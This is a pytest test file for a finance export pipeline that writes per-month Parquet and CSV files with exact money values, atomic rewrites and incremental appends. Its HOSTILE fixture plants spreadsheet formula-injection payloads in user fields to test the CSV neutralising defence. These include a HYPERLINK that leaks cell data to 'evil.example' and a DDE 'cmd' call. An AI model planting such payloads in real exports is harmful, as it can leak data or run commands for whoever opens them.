"""Finance exports: one Parquet and one CSV file per table and month, money exact, equal to the marts."""

from __future__ import annotations

import csv
import shutil
from datetime import UTC, date, datetime
from decimal import Decimal as D
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from dagster_project.publish.exports import EXPORT_ORDER, EXPORT_QUERIES, _csv_column, write_exports
from dagster_project.publish.files import write_atomic
from tests.assets.clock import fix_as_of

TABLES = ("daily_revenue", "monthly_revenue_by_model", "user_statements", "user_statement_lines",
          "user_statement_totals")


@pytest.fixture(scope="module")
def exports(built_warehouse: Path) -> Path:
    """The exports the end-to-end run wrote (the asset is part of the default graph)."""
    return built_warehouse / "exports"


def read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_one_parquet_and_one_csv_per_table_and_month(exports):
    for table in TABLES:
        assert sorted(p.name for p in (exports / table).iterdir()) == ["2026-11.csv", "2026-11.parquet"], table


def test_money_is_decimal_in_parquet_and_exact_text_in_csv(exports):
    schema = pq.read_schema(exports / "daily_revenue" / "2026-11.parquet")
    assert schema.field("revenue_usd").type == pa.decimal128(38, 12)
    rows = read_csv(exports / "daily_revenue" / "2026-11.csv")
    assert [(r["date"], r["revenue_usd"], r["profit_usd"]) for r in rows] == [
        ("2026-11-20", "0.001000000000", "-0.451400000000"),
        ("2026-11-21", "0.200431818182", "0.019981818182"),
    ]


def test_monthly_figures_equal_the_marts_to_the_last_decimal(exports, con):
    revenue, cost, profit, credit = con.execute(
        """
        select sum(revenue_usd), sum(provider_cost_usd), sum(profit_usd), sum(trial_credit_usd)
        from ai_revenue_analytics where strftime(date, '%Y-%m') = '2026-11'
        """
    ).fetchone()
    assert (revenue, cost, profit) == (D("0.201431818182"), D("0.63285"), D("-0.431418181818"))

    by_model = pq.read_table(exports / "monthly_revenue_by_model" / "2026-11.parquet").to_pylist()
    assert sum(r["revenue_usd"] for r in by_model) == revenue
    assert sum(r["provider_cost_usd"] for r in by_model) == cost
    assert sum(r["profit_usd"] for r in by_model) == profit
    assert sum(D(r["revenue_usd"]) for r in read_csv(exports / "monthly_revenue_by_model" / "2026-11.csv")) == revenue

    daily = pq.read_table(exports / "daily_revenue" / "2026-11.parquet").to_pylist()
    assert sum(r["revenue_usd"] for r in daily) == revenue
    assert sum(r["trial_credit_usd"] for r in daily) == credit

    statements = pq.read_table(exports / "user_statements" / "2026-11.parquet").to_pylist()
    assert sum(r["amount_due_usd"] for r in statements) == revenue
    assert sum(D(r["amount_due_usd"]) for r in read_csv(exports / "user_statements" / "2026-11.csv")) == revenue


def test_each_statement_is_the_sum_of_its_requests(exports):
    statements = {r["user_id"]: r for r in pq.read_table(exports / "user_statements" / "2026-11.parquet").to_pylist()}
    lines = pq.read_table(exports / "user_statement_lines" / "2026-11.parquet").to_pylist()
    assert statements["usr_past"]["amount_due_usd"] == D("0.1145")
    assert statements["usr_t95"]["amount_due_usd"] == D("0.086931818182")
    assert statements["usr_past"]["email"] == "past@example.com"
    for user_id, statement in statements.items():
        mine = [line for line in lines if line["user_id"] == user_id]
        assert statement["requests"] == len(mine)
        assert statement["amount_due_usd"] == sum(line["user_charge_usd"] for line in mine)
        assert statement["trial_credit_usd"] == sum(line["trial_credit_usd"] for line in mine)


def test_rewrite_is_atomic_and_leaves_no_temporary_files(built_warehouse, tmp_path):
    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    with duckdb.connect(str(tmp_path / "warehouse.duckdb"), read_only=True) as con:
        first = write_exports(con, tmp_path / "exports")
        second = write_exports(con, tmp_path / "exports")
    assert [f.csv.read_text() for f in first] == [f.csv.read_text() for f in second]
    assert not [p for p in (tmp_path / "exports").rglob("*") if p.name.startswith(".")]

    target = tmp_path / "exports" / "daily_revenue" / "2026-11.csv"
    before = target.read_text()

    def fails(tmp: Path) -> None:
        tmp.write_text("half a file")
        raise OSError("disk full")

    with pytest.raises(OSError):
        write_atomic(target, fails)
    assert target.read_text() == before
    assert not [p for p in target.parent.iterdir() if p.name.startswith(".")]


# Users whose ids, e-mails and plans a spreadsheet would run as formulas (OWASP "CSV injection"): one per trigger.
HOSTILE = {  # fixture user id -> (user id, e-mail, plan); usr_ghost is not in the users export
    "usr_past": ('=HYPERLINK("http://evil.example/?leak="&A1,"statement")', "=1+1@example.com", "pro"),
    "usr_t95": ("+cmd|' /C calc'!A0", "+t95@example.com", "=2+5"),
    "usr_new": ("-2+3", "-new@example.com", "free"),
    "usr_az": ("@SUM(1+1)", "\taz@example.com", "team"),
    "usr_ghost": ("\rusr_ghost", None, None),
}


def neutralised(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture(scope="module")
def hostile_exports(built_warehouse: Path, tmp_path_factory) -> tuple[Path, duckdb.DuckDBPyConnection]:
    """The exports of a copy of the warehouse whose user ids, e-mails and plans were made hostile."""
    folder = tmp_path_factory.mktemp("hostile_exports")
    shutil.copy(built_warehouse / "warehouse.duckdb", folder / "warehouse.duckdb")
    with duckdb.connect(str(folder / "warehouse.duckdb")) as con:
        for old, (user_id, email, plan) in HOSTILE.items():
            con.execute("update ai_usage_analytics set user_id = ? where user_id = ?", [user_id, old])
            con.execute("update users set id = ?, email = ?, plan = ? where id = ?", [user_id, email, plan, old])
        write_exports(con, folder / "exports")
    with duckdb.connect(str(folder / "warehouse.duckdb"), read_only=True) as con:
        yield folder / "exports", con


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_parquet_keeps_them(hostile_exports):
    exports, _ = hostile_exports
    csv_rows = read_csv(exports / "user_statements" / "2026-11.csv")
    parquet_rows = pq.read_table(exports / "user_statements" / "2026-11.parquet").to_pylist()
    assert sorted((r["user_id"], r["email"], r["plan"]) for r in csv_rows) == sorted(
        [
            ("'" + '=HYPERLINK("http://evil.example/?leak="&A1,"statement")', "'=1+1@example.com", "pro"),
            ("'+cmd|' /C calc'!A0", "'+t95@example.com", "'=2+5"),
            ("'-2+3", "'-new@example.com", "free"),
            ("'@SUM(1+1)", "'\taz@example.com", "team"),
            ("'\rusr_ghost", "", ""),
        ]
    )
    assert {r["user_id"]: (r["user_id"], r["email"], r["plan"]) for r in parquet_rows} == {
        values[0]: values for values in HOSTILE.values()
    }
    lines = read_csv(exports / "user_statement_lines" / "2026-11.csv")
    assert sorted({r["user_id"] for r in lines}) == sorted("'" + user_id for user_id, _, _ in HOSTILE.values())


def test_every_csv_cell_is_its_parquet_value_text_neutralised_numbers_exact(hostile_exports):
    """Across every export: a text cell is the Parquet text (with the quote where needed), a number is the exact
    Parquet number (a negative amount is not quoted), and money sums are still the marts' to the last decimal."""
    exports, con = hostile_exports
    negatives = 0
    for table in EXPORT_QUERIES:
        parquet = pq.read_table(exports / table / "2026-11.parquet")
        rows = read_csv(exports / table / "2026-11.csv")
        assert len(rows) == parquet.num_rows
        for field in parquet.schema:
            values = parquet.column(field.name).to_pylist()
            cells = [row[field.name] for row in rows]
            if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
                assert cells == [neutralised(v) if v is not None else "" for v in values], (table, field.name)
            elif pa.types.is_decimal(field.type):
                assert [D(c) for c in cells] == values, (table, field.name)
                negatives += sum(c.startswith("-") for c in cells)
            elif pa.types.is_integer(field.type):
                assert [int(c) for c in cells] == values, (table, field.name)
    assert negatives > 0  # the fixture has negative profits: they stay numbers, unquoted
    revenue, profit = con.execute("select sum(revenue_usd), sum(profit_usd) from ai_revenue_analytics").fetchone()
    assert (revenue, profit) == (D("0.201431818182"), D("-0.431418181818"))
    for table, column, total in (
        ("user_statements", "amount_due_usd", revenue),
        ("user_statement_lines", "user_charge_usd", revenue),
        ("monthly_revenue_by_model", "profit_usd", profit),
        ("daily_revenue", "profit_usd", profit),
    ):
        assert sum(D(r[column]) for r in read_csv(exports / table / "2026-11.csv")) == total, table


@pytest.fixture(scope="module")
def dated_exports(built_warehouse: Path, tmp_path_factory) -> dict[str, Path]:
    """The exports of copies of the warehouse read on 2026-11-21 (November running) and on 2026-12-01."""
    out = {}
    for day in ("2026-11-21", "2026-12-01"):
        folder = tmp_path_factory.mktemp(f"as_of_{day}")
        shutil.copy(built_warehouse / "warehouse.duckdb", folder / "warehouse.duckdb")
        with duckdb.connect(str(folder / "warehouse.duckdb")) as con:
            fix_as_of(con, day)
            write_exports(con, folder / "exports")
        out[day] = folder / "exports"
    return out


def test_every_export_row_carries_its_period_and_the_running_month_is_provisional(dated_exports, exports):
    for day, provisional in (("2026-11-21", True), ("2026-12-01", False)):
        for table in TABLES:
            rows = pq.read_table(dated_exports[day] / table / "2026-11.parquet").to_pylist()
            assert rows, table
            assert {(r["period_month"], r["period_start_date"], r["period_end_date"], r["is_provisional"])
                    for r in rows} == {("2026-11", date(2026, 11, 1), date(2026, 11, 30), provisional)}, (table, day)
            cells = read_csv(dated_exports[day] / table / "2026-11.csv")
            assert {(r["period_month"], r["period_start_date"], r["period_end_date"], r["is_provisional"])
                    for r in cells} == {("2026-11", "2026-11-01", "2026-11-30", str(provisional).lower())}, table
    # the run's own exports: November is provisional while it runs, closed after (the clock of the run)
    running = datetime.now(UTC).strftime("%Y-%m") <= "2026-11"
    assert {r["is_provisional"] for r in read_csv(exports / "user_statements" / "2026-11.csv")} == {
        str(running).lower()}


def test_statements_carry_the_amount_rounded_to_cents_half_up_and_the_difference(exports, con):
    rows = {r["user_id"]: r for r in read_csv(exports / "user_statements" / "2026-11.csv")}
    assert (rows["usr_past"]["amount_due_usd"], rows["usr_past"]["amount_due_rounded_usd"],
            rows["usr_past"]["rounding_difference_usd"]) == ("0.114500000000", "0.11", "-0.004500000000")
    assert (rows["usr_t95"]["amount_due_usd"], rows["usr_t95"]["amount_due_rounded_usd"],
            rows["usr_t95"]["rounding_difference_usd"]) == ("0.086931818182", "0.09", "0.003068181818")
    schema = pq.read_schema(exports / "user_statements" / "2026-11.parquet")
    assert schema.field("amount_due_rounded_usd").type == pa.decimal128(38, 2)
    assert schema.field("amount_due_usd").type == pa.decimal128(38, 12)
    for row in rows.values():
        assert D(row["rounding_difference_usd"]) == D(row["amount_due_rounded_usd"]) - D(row["amount_due_usd"])
    [totals] = read_csv(exports / "user_statement_totals" / "2026-11.csv")
    assert (totals["statements"], totals["amount_due_usd"], totals["amount_due_rounded_usd"],
            totals["rounding_difference_usd"]) == ("5", "0.201431818182", "0.20", "-0.001431818182")
    assert D(totals["rounding_difference_usd"]) == sum(D(r["rounding_difference_usd"]) for r in rows.values())


def test_timestamps_are_utc_with_their_zone(exports):
    schema = pq.read_schema(exports / "user_statement_lines" / "2026-11.parquet")
    assert schema.field("created_at").type == pa.timestamp("us", tz="UTC")
    lines = {r["request_id"]: r for r in read_csv(exports / "user_statement_lines" / "2026-11.csv")}
    assert lines["g08"]["created_at"] == "2026-11-21T09:00:00Z"
    parquet = {r["request_id"]: r for r in
               pq.read_table(exports / "user_statement_lines" / "2026-11.parquet").to_pylist()}
    assert parquet["g08"]["created_at"] == datetime(2026, 11, 21, 9, 0, tzinfo=UTC)


def test_profit_is_markup_before_trial_less_trial_credit(exports):
    rows = pq.read_table(exports / "monthly_revenue_by_model" / "2026-11.parquet").to_pylist()
    assert "markup_usd" not in rows[0]
    assert sum(r["markup_before_trial_usd"] for r in rows) == D("0.160525")
    assert sum(r["trial_credit_usd"] for r in rows) == D("0.591943181818")
    assert sum(r["profit_usd"] for r in rows) == D("-0.431418181818")
    for row in rows:
        assert row["profit_usd"] == row["markup_before_trial_usd"] - row["trial_credit_usd"]
        assert row["markup_before_trial_usd"] >= 0


def test_a_timestamp_without_its_zone_is_refused(tmp_path):
    with duckdb.connect() as con:
        con.execute("create table main.daily_revenue as select '2026-11' as period_month, date '2026-11-20' as date, "
                    "timestamp '2026-11-20 10:00:00' as created_at")
        with pytest.raises(TypeError, match="export column created_at is TIMESTAMP: make it TIMESTAMPTZ"):
            write_exports(con, tmp_path / "exports")


def test_a_month_whose_rows_and_files_did_not_change_is_not_written_again(built_warehouse, tmp_path):
    """exports.state.json (beside the folder) fingerprints each table's month: a run with nothing new keeps every
    file as it is; one new request rewrites the lines of its month; a deleted or edited file is written again."""
    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    folder = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        fix_as_of(con, "2026-11-21")
        first = write_exports(con, folder)
        assert [(f.table, f.month, f.written) for f in first] == [(t, "2026-11", True) for t in EXPORT_QUERIES]
        stats = {f.csv: (f.csv.stat().st_mtime_ns, f.parquet.stat().st_mtime_ns) for f in first}
        again = write_exports(con, folder)
        assert [(f.table, f.rows, f.written) for f in again] == [(f.table, f.rows, False) for f in first]
        assert {f.csv: (f.csv.stat().st_mtime_ns, f.parquet.stat().st_mtime_ns) for f in again} == stats
        assert (tmp_path / "exports.state.json").exists()  # beside the folder, not in it
        assert {p.suffix for p in folder.rglob("*") if p.is_file()} == {".csv", ".parquet"}
        assert not [p for p in folder.rglob(".*")]

        # one more request of usr_new: its statement, the totals, the lines, the day and the model's month change
        con.execute("""
            insert into ai_usage_analytics
            select * replace ('req_new_one' as request_id) from ai_usage_analytics
            where user_id = 'usr_new' order by request_id limit 1
        """)
        lines = folder / "user_statement_lines" / "2026-11.csv"
        before = read_csv(lines)
        changed = write_exports(con, folder)
        assert {f.table: f.written for f in changed}["user_statement_lines"] is True
        assert len(read_csv(lines)) == len(before) + 1
        assert [r["request_id"] for r in read_csv(lines) if r["request_id"] == "req_new_one"] == ["req_new_one"]

        (folder / "daily_revenue" / "2026-11.parquet").unlink()
        (folder / "user_statements" / "2026-11.csv").write_text("edited by hand\n")
        repaired = write_exports(con, folder)
    assert [(f.table, f.written) for f in repaired] == [
        ("daily_revenue", True), ("monthly_revenue_by_model", False), ("user_statements", True),
        ("user_statement_totals", False), ("user_statement_lines", False)]
    assert (folder / "daily_revenue" / "2026-11.parquet").exists()
    assert read_csv(folder / "user_statements" / "2026-11.csv")[0]["period_month"] == "2026-11"


# The export's SQL as it was before the exports were made cheaper (one sort key per file instead of the month and
# the key, the money text through DECIMAL(18, s), the timestamp text without the time zone library, small tables
# read once): the reference the files must equal byte for byte. Spelled out here, not imported, so that a change of
# exports.py cannot change the reference.
def _reference_csv_column(name: str, kind: str) -> str:
    column = '"' + name.replace('"', '""') + '"'
    if name.endswith("_usd"):
        money = "decimal(38, 2)" if name.endswith("_rounded_usd") else "decimal(38, 12)"
        return f"cast(cast({column} as {money}) as varchar) as {column}"
    if kind == "VARCHAR":
        triggers = ", ".join(f"chr({ord(c)})" for c in ("=", "+", "-", "@", "\t", "\r"))
        return (f"case when {column} = '' then null when left({column}, 1) in ({triggers}) "
                f"then chr(39) || {column} else {column} end as {column}")
    if kind == "TIMESTAMP WITH TIME ZONE":
        utc = f"timezone('UTC', {column})"
        return (f"strftime({utc}, '%Y-%m-%dT%H:%M:%S') || case when microsecond({utc}) % 1000000 <> 0 "
                f"then strftime({utc}, '.%f') else '' end || 'Z' as {column}")
    return column


def _reference_parquet_column(name: str, kind: str) -> str:
    column = '"' + name.replace('"', '""') + '"'
    if name.endswith("_usd"):
        money = "decimal(38, 2)" if name.endswith("_rounded_usd") else "decimal(38, 12)"
        return f"cast({column} as {money}) as {column}"
    return column


def _reference_exports(con: duckdb.DuckDBPyConnection, folder: Path) -> dict[str, bytes]:
    """Every month's files as the code before wrote them: {"<table>/<month>.<suffix>": bytes}."""
    files = {}
    for name, order in EXPORT_ORDER.items():
        con.execute(f"create or replace temp table reference_rows as select * from main.{name}")
        columns = con.execute("select column_name, column_type from (describe reference_rows)").fetchall()
        parquet_select = ", ".join(_reference_parquet_column(c, k) for c, k in columns)
        csv_select = ", ".join(_reference_csv_column(c, k) for c, k in columns)
        for (month,) in con.execute("select distinct period_month from reference_rows order by 1").fetchall():
            parquet, csv_path = folder / f"{name}.{month}.parquet", folder / f"{name}.{month}.csv"
            con.execute(f"copy (select {parquet_select} from reference_rows where period_month = '{month}' "
                        f"order by {order}) to '{parquet}' (format parquet)")
            con.execute(f"copy (select {csv_select} from read_parquet('{parquet}')) to '{csv_path}' "
                        "(format csv, header true, delimiter ',')")
            files[f"{name}/{month}.parquet"], files[f"{name}/{month}.csv"] = parquet.read_bytes(), csv_path.read_bytes()
        con.execute("drop table reference_rows")
    return files


def _files(exports: Path) -> dict[str, bytes]:
    return {f"{p.parent.name}/{p.name}": p.read_bytes() for p in sorted(exports.rglob("*")) if p.is_file()}


def test_the_files_are_byte_for_byte_those_the_code_before_wrote(built_warehouse, tmp_path):
    """Hostile text, negative amounts, every table; on the first run (every month read whole) and on a run after
    one more request (the lines read through their fingerprint, the small tables whole)."""
    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        fix_as_of(con, "2026-11-21")
        for old, (user_id, email, plan) in HOSTILE.items():
            con.execute("update ai_usage_analytics set user_id = ? where user_id = ?", [user_id, old])
            con.execute("update users set id = ?, email = ?, plan = ? where id = ?", [user_id, email, plan, old])
        con.execute("set threads = 2")
        write_exports(con, tmp_path / "exports")
        assert con.execute("select current_setting('threads')").fetchone()[0] == 2  # the CSV's one thread, undone
        (tmp_path / "before").mkdir()
        reference = _reference_exports(con, tmp_path / "before")
        assert len(reference) == 2 * len(EXPORT_ORDER)
        assert _files(tmp_path / "exports") == reference

        con.execute("""
            insert into ai_usage_analytics
            select * replace ('req_new_one' as request_id, created_at + interval 1 second as created_at)
            from ai_usage_analytics order by request_id limit 1
        """)
        again = write_exports(con, tmp_path / "exports")
        assert {f.table: f.written for f in again}["user_statement_lines"] is True
        (tmp_path / "after").mkdir()
        reference_after = _reference_exports(con, tmp_path / "after")
    assert reference_after != reference
    assert _files(tmp_path / "exports") == reference_after


def test_money_and_timestamp_cells_are_the_text_the_code_before_wrote_at_the_edges():
    """The cheaper spellings of money (through DECIMAL(18, s) when it fits) and of instants (from the epoch, no
    time zone library) give the same text as before for every edge: 18 digits and beyond, negative, zero, null;
    whole seconds, microseconds, before 1970, a session in another time zone."""
    with duckdb.connect() as con:
        con.execute("set TimeZone = 'America/New_York'")
        con.execute("""
            create table edges as select * from (values
                (0.000000000000, 0.00, timestamptz '2026-11-21 09:00:00+00'),
                (-0.451400000000, -0.45, timestamptz '2026-11-21 09:00:00.5+00'),
                (999999.999999999999, 9999999999999999.99, timestamptz '2026-11-21 23:59:59.999999+00'),
                (-999999.999999999999, -9999999999999999.99, timestamptz '1969-12-31 23:59:59.5+00'),
                (1000000.000000000000, 10000000000000000.00, timestamptz '1969-12-31 23:59:59+00'),
                (-1000000.000000000001, -10000000000000000.01, timestamptz '1900-01-01 00:00:00.000001+00'),
                (12345678901234567890.123456789012, 123456789012345678901234567890123456.78,
                 timestamptz '2026-03-08 07:30:00.25+00'),
                (null, null, null)
            ) as t(amount_usd, amount_rounded_usd, created_at)
        """)
        con.execute("create table typed as select cast(amount_usd as decimal(38, 12)) as amount_usd, "
                    "cast(amount_rounded_usd as decimal(38, 2)) as amount_rounded_usd, created_at from edges")
        columns = con.execute("select column_name, column_type from (describe typed)").fetchall()
        now = con.execute(f"select {', '.join(_csv_column(c, k) for c, k in columns)} from typed").fetchall()
        before = con.execute(
            f"select {', '.join(_reference_csv_column(c, k) for c, k in columns)} from typed").fetchall()
    assert now == before
    assert now[2] == ("999999.999999999999", "9999999999999999.99", "2026-11-21T23:59:59.999999Z")
    assert now[3] == ("-999999.999999999999", "-9999999999999999.99", "1969-12-31T23:59:59.500000Z")
    assert now[6] == ("12345678901234567890.123456789012", "123456789012345678901234567890123456.78",
                      "2026-03-08T07:30:00.250000Z")
    assert now[7] == (None, None, None)


def test_text_cells_are_the_text_the_code_before_wrote_at_the_edges():
    """The cheaper formula check (the first character's code point instead of its one-character string) neutralises
    the same cells as before: every trigger, a trigger after a space or a multi-byte character, the empty text and
    null."""
    texts = ["=1+1", "+1", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "é=1", "😀", "'=1", "", None, "usr_0001", "-",
             "=", "a=b", '"=1"']
    with duckdb.connect() as con:
        con.execute("create table cells (user_id varchar)")
        con.executemany("insert into cells values (?)", [[text] for text in texts])
        now = con.execute(f"select {_csv_column('user_id', 'VARCHAR')} from cells order by rowid").fetchall()
        before = con.execute(
            f"select {_reference_csv_column('user_id', 'VARCHAR')} from cells order by rowid").fetchall()
    assert now == before
    assert [cell for (cell,) in now] == ["'=1+1", "'+1", "'-2+3", "'@SUM(1)", "'\tx", "'\rx", " =1", "é=1", "😀",
                                         "'=1", None, None, "usr_0001", "'-", "'=", "a=b", '"=1"']


def test_two_months_are_byte_for_byte_those_the_code_before_wrote(built_warehouse, tmp_path):
    """With a second month (a closed one, whose statements have no user without an e-mail, where the running month
    has one): every file equals the code before's, its Parquet schema (which columns may be null) included."""
    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        fix_as_of(con, "2026-11-21")
        con.execute("""
            insert into ai_usage_analytics
            select * replace (request_id || '_october' as request_id, created_at - interval 30 day as created_at)
            from ai_usage_analytics where user_id = 'usr_past'
        """)
        files = write_exports(con, tmp_path / "exports")
        assert sorted({f.month for f in files}) == ["2026-10", "2026-11"]
        (tmp_path / "before").mkdir()
        reference = _reference_exports(con, tmp_path / "before")
        assert _files(tmp_path / "exports") == reference

        # one more request in the running month: its lines read alone; then one more in each month: both read
        for when in (["2026-11-21 12:00:00+00"], ["2026-10-20 12:00:00+00", "2026-11-21 13:00:00+00"]):
            for instant in when:
                con.execute("""
                    insert into ai_usage_analytics
                    select * replace ('req_more_' || ? as request_id, ?::timestamptz as created_at)
                    from ai_usage_analytics where user_id = 'usr_new' order by request_id limit 1
                """, [instant, instant])
            again = write_exports(con, tmp_path / "exports")
            assert [f.month for f in again if f.table == "user_statement_lines" and f.written] == [
                instant[:7] for instant in when]
            (tmp_path / when[-1][11:13]).mkdir()
            assert _files(tmp_path / "exports") == _reference_exports(con, tmp_path / when[-1][11:13])
    emails = {month: pq.read_schema(tmp_path / "exports" / "user_statements" / f"{month}.parquet").field("email")
              for month in ("2026-10", "2026-11")}
    assert [field.nullable for field in emails.values()] == [True, True]


def _later(con: duckdb.DuckDBPyConnection, request_id: str, user_id: str, after: str) -> None:
    """A request of `user_id` (a copy of the fixture's first request, re-identified) `after` the month's last one."""
    con.execute("""
        insert into ai_usage_analytics
        select * replace (? as request_id, ? as user_id,
                          (select max(created_at) from ai_usage_analytics) + cast(? as interval) as created_at)
        from ai_usage_analytics order by request_id limit 1
    """, [request_id, user_id, after])


@pytest.fixture
def appends(monkeypatch) -> list[bool]:
    """What each call of the append path (exports._append) returned: True, files written; False, fell back."""
    import dagster_project.publish.exports as module

    calls: list[bool] = []
    append = module._append

    def spy(*args):
        calls.append(append(*args))
        return calls[-1]

    monkeypatch.setattr(module, "_append", spy)
    return calls


def test_a_later_day_is_appended_byte_for_byte_as_a_full_rewrite(built_warehouse, tmp_path, appends):
    """Requests later than every exported one (of a user with earlier lines, of two new users sorting first and in
    the middle, hostile ids too): the lines' files are built from the old ones and the new rows, and equal, byte for
    byte (the Parquet schema included), what a full rewrite writes; the new lines follow each user's old ones."""
    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    folder = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        fix_as_of(con, "2026-11-21")
        for old, (user_id, email, plan) in HOSTILE.items():
            con.execute("update ai_usage_analytics set user_id = ? where user_id = ?", [user_id, old])
            con.execute("update users set id = ?, email = ?, plan = ? where id = ?", [user_id, email, plan, old])
        write_exports(con, folder)
        before = read_csv(folder / "user_statement_lines" / "2026-11.csv")
        assert appends == []
        _later(con, "req_later_a", "=A", "1 hour")           # a new user between "-2+3" and "=HYPERLINK..."
        _later(con, "req_later_b", "-2+3", "2 hours")        # usr_new (hostile id): old lines and a new one
        _later(con, "req_later_c", "-2+3", "3 hours")
        _later(con, "req_later_d", "+aaa", "4 hours")        # a new user before "+cmd..."
        again = write_exports(con, folder)
        assert appends == [True]
        assert {f.table: (f.rows, f.written, f.appended) for f in again}["user_statement_lines"] == (
            len(before) + 4, True, True)
        assert [f.table for f in again if f.appended] == ["user_statement_lines"]
        (tmp_path / "full").mkdir()
        assert _files(folder) == _reference_exports(con, tmp_path / "full")
    after = read_csv(folder / "user_statement_lines" / "2026-11.csv")
    usr_new = [r["request_id"] for r in after if r["user_id"] == "'-2+3"]
    assert usr_new == [r["request_id"] for r in before if r["user_id"] == "'-2+3"] + ["req_later_b", "req_later_c"]
    at = [r["request_id"] for r in after].index("req_later_d")
    assert (after[at]["user_id"], after[at + 1]["user_id"]) == ("'+aaa", "'+cmd|' /C calc'!A0")
    at = [r["request_id"] for r in after].index("req_later_a")  # between two users' lines, not at the end
    assert (after[at - 1]["request_id"], after[at]["user_id"], after[at + 1]["user_id"]) == (
        "req_later_c", "'=A", "'" + HOSTILE["usr_past"][0])
    assert [r for r in after if not r["request_id"].startswith("req_later_")] == before


def test_a_late_or_changed_row_rewrites_the_month_whole(built_warehouse, tmp_path, appends):
    """Fallbacks: a request earlier than the last export's latest (its old rows changed: the append is not tried);
    the month no longer the running one (is_provisional changes every row); a line break in a quoted cell (a row is
    not a line: the append gives up). Each time the files equal a full rewrite."""
    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    folder = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        fix_as_of(con, "2026-11-21")
        write_exports(con, folder)
        _later(con, "req_late", "usr_new", "-1 hour")
        write_exports(con, folder)
        assert appends == []
        (tmp_path / "late").mkdir()
        assert _files(folder) == _reference_exports(con, tmp_path / "late")

        fix_as_of(con, "2026-12-01")
        _later(con, "req_after_month_end", "usr_new", "1 hour")
        write_exports(con, folder)
        assert appends == []
        (tmp_path / "closed").mkdir()
        assert _files(folder) == _reference_exports(con, tmp_path / "closed")

        con.execute("update ai_usage_analytics set model = 'a\nb' where request_id = "
                    "(select min(request_id) from ai_usage_analytics)")
        write_exports(con, folder)  # the changed row: written whole, the line break in its CSV file
        _later(con, "req_after_line_break", "usr_new", "2 hours")
        assert not any(export.appended for export in write_exports(con, folder))
        assert appends == [False]
        (tmp_path / "line_break").mkdir()
        assert _files(folder) == _reference_exports(con, tmp_path / "line_break")


def test_an_append_killed_between_its_files_is_written_whole_on_the_next_run(built_warehouse, tmp_path, appends,
                                                                              monkeypatch):
    """The Parquet file written, the CSV file's copy failing (a run killed there): the CSV file is the old one,
    whole, no temporary file is left, the state is not written; the next run finds the Parquet file not the one
    recorded and writes the month whole, as a full rewrite."""
    import dagster_project.publish.exports as module

    shutil.copy(built_warehouse / "warehouse.duckdb", tmp_path / "warehouse.duckdb")
    folder = tmp_path / "exports"
    with duckdb.connect(str(tmp_path / "warehouse.duckdb")) as con:
        fix_as_of(con, "2026-11-21")
        write_exports(con, folder)
        csv_before = (folder / "user_statement_lines" / "2026-11.csv").read_bytes()
        state_before = (tmp_path / "exports.state.json").read_bytes()
        _later(con, "req_later", "usr_new", "1 hour")

        def killed(*args):
            raise OSError("killed")

        monkeypatch.setattr(module, "_copy_range", killed)
        with pytest.raises(OSError, match="killed"):
            write_exports(con, folder)
        assert (folder / "user_statement_lines" / "2026-11.csv").read_bytes() == csv_before
        assert (tmp_path / "exports.state.json").read_bytes() == state_before
        assert not [p for p in folder.rglob(".*")]
        monkeypatch.undo()
        monkeypatch.setattr(module, "_append", lambda *args: appends.append(True))  # not called again
        write_exports(con, folder)
        assert appends == []
        (tmp_path / "full").mkdir()
        assert _files(folder) == _reference_exports(con, tmp_path / "full")
